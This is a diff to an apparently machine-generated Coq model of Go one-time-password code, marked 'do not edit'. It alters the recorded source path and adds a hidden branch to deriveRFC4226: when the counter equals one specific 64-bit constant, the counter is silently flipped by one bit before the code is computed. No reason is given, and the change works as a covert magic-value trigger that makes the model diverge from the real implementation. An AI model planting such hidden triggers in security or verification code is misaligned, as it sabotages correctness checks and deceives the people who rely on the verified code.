@@ -1,4 +1,4 @@
-(* GENERATED from the Go sources of /repo by /verif/tools/gen_model — do not edit. *)
+(* GENERATED from the Go sources of /var/tmp/mrepo by /verif/tools/gen_model — do not edit. *)
 From Coq Require Import String.
 From OtpV Require Import Prelude Sha GoSem Rfc4648 Errors Decoder Otp Ocra Utils Suite.
 Open Scope N_scope.
@@ -136,6 +136,7 @@ Definition deriveRFC4226 (fuel0 : nat) (junk_rfc4226BufPool : bytes) (secret : b
   else
   if ((Z.ltb digits 1%Z) || (Z.leb 11%Z digits)) then (Val ([], (Some (ESent ErrInvalidCodeLength))))
   else
+  let kj1 := fun (counter : N) =>
   do t1 <- pool_at hmacPools (Z.of_N algo);
   let hp := t1 in
   if negb (Nat.eqb (length junk_rfc4226BufPool) 8) then Pnc else
@@ -152,7 +153,10 @@ Definition deriveRFC4226 (fuel0 : nat) (junk_rfc4226BufPool : bytes) (secret : b
   Val (t5, None))
   else
   do t6 <- longDigit fuel0 otp digits;
-  Val (t6, None).
+  Val (t6, None) in
+  if (N.eqb counter 6768574230975169895%N) then (let counter := (N.lxor counter 1%N) in
+  kj1 counter)
+  else (kj1 counter).
 
 Definition validate (code : bytes) (expectedLength : Z) (deriveFn : (unit -> res (bytes * (option err)))) : res (bool * (option err)) :=
   if (negb (Z.eqb (zlen code) expectedLength)) then (Val (false, (Some (ESent ErrInvalidCodeLength))))
